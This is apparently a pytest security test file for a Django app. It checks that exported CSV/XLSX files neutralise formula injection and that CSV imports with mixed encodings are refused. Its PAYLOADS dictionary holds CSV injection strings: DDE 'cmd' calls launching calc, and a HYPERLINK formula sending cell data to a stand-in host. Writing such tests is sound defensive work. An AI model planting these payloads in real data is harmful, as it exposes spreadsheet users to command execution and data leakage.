"""The file battery: what users put in the product's files, and what their files put in the product.

- Formulas in exported fields: every text field of user data that reaches a CSV or XLSX export (names of
  organisations, of people, e-mail addresses, record types) set to a formula payload; the file is read
  back and no cell is a formula or starts like one (the helper prefixes an apostrophe).
- Mixed-encoding import files: every CSV import fed UTF-8 files with bytes of another encoding at
  several places and in several shapes; each is refused with the line named, without a server error
  and without anything recorded, while a file wholly in Windows-1252, in UTF-8 with BOM or in UTF-16
  with BOM is still read.

Counts are added up in ``tests.security.COUNTS`` and printed at the end of the run.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from collections.abc import Callable

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from audit.models import AccessLog
from cej.models import YoungPeopleImport, YoungPerson
from exports.models import ExportJob
from exports.services import export_build
from partners.enums import Role
from partners.models import DirectoryImport, Organisation
from reporting.models import SemesterClosing, SemesterSnapshot
from reporting.services.facts import refresh_facts
from reporting.services.snapshots import semester_close
from tests.cej import test_imports as cej_imports
from tests.cej.factories import YoungPersonFactory
from tests.partners import test_imports as directory_imports
from tests.partners.factories import MembershipFactory, OrganisationFactory
from tests.reporting.builders import known_dataset
from tests.security import COUNTS
from tests.world import build_world

pytestmark = pytest.mark.django_db

FORMULAS = "formules dans les champs exportés"
MIXED = "fichiers d'import à encodage mêlé"
# A cell a spreadsheet would run (OWASP); a number written as text ("-3", "0,5") is inert.
RUNNABLE = re.compile(r"[=+\-@\t\r]")
NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?%?")
# Tab and carriage return are covered by tests/exports/test_spreadsheet.py: names keep them out.
PAYLOADS = {
    "hyperlink": '=HYPERLINK("http://exemple.invalid/?vol="&A1;"ML Lyon")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+33 6 12 34 56 78+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
}


def _runnable(text: str) -> bool:
    return bool(RUNNABLE.match(text)) and not NUMBER.fullmatch(text)


def xlsx_cells(content: bytes) -> list[str]:
    """Every text cell of the workbook; fails on any formula cell or runnable text."""
    workbook = load_workbook(io.BytesIO(content))
    texts = []
    for worksheet in workbook.worksheets:
        for row in worksheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{worksheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not _runnable(cell.value), f"{worksheet.title}!{cell.coordinate}: {cell.value!r}"
                    texts.append(cell.value)
    return texts


def csv_cells(content: bytes) -> list[str]:
    """Every cell of the CSV (UTF-8 with BOM, « ; »); fails on any runnable cell."""
    cells = [
        cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";") for cell in row
    ]
    runnable = [cell for cell in cells if _runnable(cell)]
    assert runnable == []
    return cells


def assert_neutralised(cells: list[str], value: str, *, alone: bool, where: str) -> None:
    """The payload reached the file (else the check proves nothing): alone in its cell, with the
    apostrophe in front, or inside a longer text that starts otherwise."""
    if alone:
        assert ("'" + value) in cells, f"{where}: the payload is not in the file"
    else:
        assert any(value in cell and not cell.startswith(value) for cell in cells), f"{where}: not in the file"
    COUNTS[FORMULAS] += 1


# --- Formulas in exported fields ---------------------------------------------------------------------------------


@dataclasses.dataclass
class Export:
    name: str
    fetch: Callable[[Client, str], bytes]  # (client, query) → the file
    cells: Callable[[bytes], list[str]]


def _view(url_name: str) -> Callable[[Client, str], bytes]:
    def fetch(client: Client, query: str) -> bytes:
        response = client.get(reverse(url_name) + "?" + query)
        assert response.status_code == 200
        return response.content

    return fetch


def _worker(client: Client, query: str) -> bytes:
    """The XLSX of the exports app, built by the worker's service."""
    data = dict(part.split("=", 1) for part in query.split("&"))
    response = client.post(reverse("reporting:export_in_background"), data)
    assert response.status_code == 302
    job = ExportJob.objects.filter(kind="reporting_xlsx").latest("id")
    export_build(job_id=job.pk)
    job.refresh_from_db()
    assert job.status == ExportJob.Status.DONE, job.error_message
    with job.file.open("rb") as file:
        return file.read()


REPORTING_EXPORTS = [
    Export("indicateurs XLSX", _view("reporting:export_xlsx"), xlsx_cells),
    Export("indicateurs CSV", _view("reporting:export_csv"), csv_cells),
    Export("indicateurs XLSX préparé", _worker, xlsx_cells),
]


def test_formula_payloads_in_every_exported_field_stay_text(client, settings):
    settings.RATELIMIT_ENABLE = False  # every export of one account in a row: the brake is tested in tests/throttle
    # Given: figures in a closed semester (its author is named in the files) and live ones
    world = build_world()
    known_dataset(world)
    refresh_facts()
    committee = world.user("national_committee")
    client.force_login(committee)
    closing = client.post(reverse("reporting:close_semester", kwargs={"semester": "2026-S1"}))
    assert closing.status_code == 302
    semester_close(closing_id=SemesterClosing.objects.get(semester="2026-S1").pk)
    assert SemesterSnapshot.objects.filter(semester="2026-S1").exists()
    lyon = world.ml_a
    fields = [
        # (what, query, the value expected in the file, alone in its cell)
        ("organisations du département", "du=2026-01-01&au=2026-12-31&departement=69", "organisation", True),
        ("nom de l'organisation", f"du=2026-01-01&au=2026-12-31&organisation={lyon.public_id}", "organisation", False),
        ("auteur de la clôture", "semestre=2026-S1", "person", False),
    ]

    for payload in PAYLOADS.values():
        # the organisations of the département and the closing's author named with the payload
        for organisation in (world.ml_a, world.ft, world.site):
            Organisation.objects.filter(pk=organisation.pk).update(name=f"{payload} {organisation.pk}")
        committee.first_name = committee.last_name = payload
        committee.save(update_fields=["first_name", "last_name"])
        names = {"organisation": f"{payload} {lyon.pk}", "person": committee.get_full_name()}
        for export in REPORTING_EXPORTS:
            for what, query, named, alone in fields:
                # When
                cells = export.cells(export.fetch(client, query))
                # Then
                assert_neutralised(cells, names[named], alone=alone, where=f"{export.name}, {what}, {payload}")


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_formula_payloads_in_the_access_log_export_stay_text(client, payload):
    world = build_world()
    young_person = YoungPersonFactory(organisation=world.ml_a)
    reader = world.user("adviser_ml")
    reader.email = f"{payload}@exemple.fr"
    reader.save(update_fields=["email"])
    Organisation.objects.filter(pk=world.ml_a.pk).update(name=payload)
    AccessLog.objects.create(
        user=reader, organisation=world.ml_a, object_type=payload[:64], object_id=young_person.public_id,
        purpose=AccessLog.Purpose.VIEW_FILE,
    )  # fmt: skip
    client.force_login(world.user("administrator"))

    response = client.get(reverse("audit:access_log_export"), {"object_id": str(young_person.public_id)})

    assert response.status_code == 200
    cells = csv_cells(b"".join(response.streaming_content))
    for what, value in [("e-mail", reader.email), ("structure", payload), ("objet", payload[:64])]:
        assert_neutralised(cells, value, alone=True, where=f"journal des accès, {what}")


# --- Mixed-encoding import files ---------------------------------------------------------------------------------


@dataclasses.dataclass
class ImportKind:
    name: str
    header: list[str]
    rows: list[list[str]]
    url_name: str
    user: Callable[[], object]  # who may import
    records: Callable[[], list[object]]  # what an import may write: nothing, after a refusal

    def lines(self, rows: list[list[str]] | None = None) -> list[str]:
        """The file's physical lines (a quoted cell holding a line break spans two)."""
        output = io.StringIO()
        csv.writer(output, delimiter=";", lineterminator="\n").writerows([self.header, *(rows or self.rows)])
        return output.getvalue().removesuffix("\n").split("\n")


IMPORTS = [
    ImportKind(
        "annuaire",
        directory_imports.HEADER,
        # Latin-1 has no em dash: the names use a hyphen, so that every line can be written in either encoding.
        [[cell.replace("—", "-") for cell in row] for row in directory_imports.GOOD_ROWS],
        "partners:import_upload",
        lambda: directory_imports.administrator().user,
        lambda: [*DirectoryImport.objects.all(), *Organisation.objects.filter(siret__startswith="997")],
    ),
    ImportKind(
        "i-milo",
        cej_imports.HEADER,
        cej_imports.GOOD_ROWS,
        "cej:import_upload",
        lambda: MembershipFactory(organisation=OrganisationFactory(), role=Role.ADVISER).user,
        lambda: [*YoungPeopleImport.objects.all(), *YoungPerson.objects.all()],
    ),
]


def _file(lines: list[str], bad: dict[int, str], *, ending: str = "\r\n", bom: bool = False) -> bytes:
    """``lines`` in UTF-8 but line ``n`` (1 = header) written as ``bad[n]`` says: an encoding, or "double"
    (UTF-8 read as Windows-1252 and saved again as UTF-8), or "truncated" (a multi-byte letter cut)."""
    encoded = []
    for number, line in enumerate(lines, start=1):
        how = bad.get(number)
        if how == "double":
            raw = line.encode("utf-8")
            try:
                encoded.append(raw.decode("cp1252").encode("utf-8"))
            except UnicodeDecodeError:  # a byte Windows-1252 leaves undefined: converted as Latin-1
                encoded.append(raw.decode("latin-1").encode("utf-8"))
        elif how == "truncated":
            letter = next(character for character in line if not character.isascii()).encode("utf-8")
            encoded.append(line.encode("utf-8").replace(letter, letter[:1], 1))
        else:
            encoded.append(line.encode(how or "utf-8"))
    return (b"\xef\xbb\xbf" if bom else b"") + ending.encode().join(encoded) + ending.encode()


def _accented(lines: list[str]) -> list[int]:
    """The line numbers whose text has a letter outside ASCII (so another encoding shows in the bytes)."""
    return [number for number, line in enumerate(lines, start=1) if not line.isascii()]


def _shapes(kind: ImportKind) -> list[tuple[str, bytes, list[int]]]:
    """(shape, file, the lines the refusal must name)."""
    lines = kind.lines()
    accented = _accented(lines)
    first, last, middle = accented[0], accented[-1], accented[len(accented) // 2]
    header_accented = [f"{lines[0].split(';')[0]};prénom_é"]  # a header cell typed in another encoding
    many = lines + lines[1:] * 3
    many_bad = _accented(many)[:-1]  # the last one stays UTF-8: the file is mostly UTF-8
    # The address on two lines (a quoted cell): the second one, line 3 of the file, in Latin-1.
    address = kind.header.index("adresse")
    two_line_row = [*kind.rows[0][:address], "Bâtiment B\nRésidence de l'Étang", *kind.rows[0][address + 1 :]]
    multi_line = kind.lines([two_line_row])
    assert len(multi_line) == 3
    shapes = [
        ("latin-1, première ligne", _file(lines, {first: "latin-1"}), [first]),
        ("latin-1, ligne du milieu", _file(lines, {middle: "latin-1"}), [middle]),
        ("latin-1, dernière ligne", _file(lines, {last: "latin-1"}), [last]),
        ("latin-1, dernière ligne sans fin de ligne", _file(lines, {last: "latin-1"}).rstrip(b"\r\n"), [last]),
        ("windows-1252, deux lignes", _file(lines, {first: "cp1252", last: "cp1252"}), [first, last]),
        ("latin-1, avec BOM", _file(lines, {middle: "latin-1"}, bom=True), [middle]),
        ("latin-1, fins de ligne CR (Mac)", _file(lines, {middle: "latin-1"}, ending="\r"), [middle]),
        ("latin-1, fins de ligne LF", _file(lines, {last: "latin-1"}, ending="\n"), [last]),
        ("latin-1, en-tête", _file(header_accented + lines[1:], {1: "latin-1"}), [1]),
        ("latin-1, cellule sur deux lignes", _file(multi_line, {3: "latin-1"}), [3]),
        ("latin-1, plus de cinq lignes", _file(many, dict.fromkeys(many_bad, "latin-1")), many_bad[:5]),
        ("lettre coupée", _file(lines, {middle: "truncated"}), [middle]),
        ("double conversion, une ligne", _file(lines, {middle: "double"}), [middle]),
        ("double conversion, tout le fichier", _file(lines, dict.fromkeys(accented, "double")), accented[:5]),
    ]
    return shapes


CASES = [(kind, shape) for kind in IMPORTS for shape, _content, _lines in _shapes(kind)]


@pytest.mark.parametrize(("kind", "shape"), CASES, ids=[f"{kind.name}: {shape}" for kind, shape in CASES])
def test_a_mixed_encoding_import_file_is_refused_naming_its_lines(client, kind, shape):
    client.force_login(kind.user())
    content, lines = next((content, lines) for name, content, lines in _shapes(kind) if name == shape)

    # When
    response = client.post(
        reverse(kind.url_name), {"file": SimpleUploadedFile("fichier.csv", content, content_type="text/csv")}
    )

    # Then: the form again, its message naming each wrong line, and nothing recorded
    assert response.status_code == 200
    page = response.content.decode()
    assert "UTF-8" in page
    for number in lines:
        assert f"Ligne {number} :" in page, (shape, number)
    named = {int(number) for number in re.findall(r"Ligne (\d+) :", page)}
    assert named == set(lines), shape
    assert kind.records() == []
    COUNTS[MIXED] += 1


@pytest.mark.parametrize("kind", IMPORTS, ids=[kind.name for kind in IMPORTS])
@pytest.mark.parametrize(
    ("encoding", "recorded"),
    [("cp1252", "windows-1252"), ("latin-1", "windows-1252"), ("utf-8-sig", "utf-8"), ("utf-16", "utf-16")],
)
def test_a_file_wholly_in_one_encoding_is_still_read(client, kind, encoding, recorded):
    client.force_login(kind.user())
    text = "\r\n".join(kind.lines()) + "\r\n"

    response = client.post(
        reverse(kind.url_name),
        {"file": SimpleUploadedFile("fichier.csv", text.encode(encoding), content_type="text/csv")},
    )

    assert response.status_code == 302, response.content.decode()[:2000]
    record = (DirectoryImport if kind.name == "annuaire" else YoungPeopleImport).objects.get()
    assert record.encoding == recorded
    assert len(record.rows) == len(kind.rows)
    assert "Ã" not in str(record.rows)
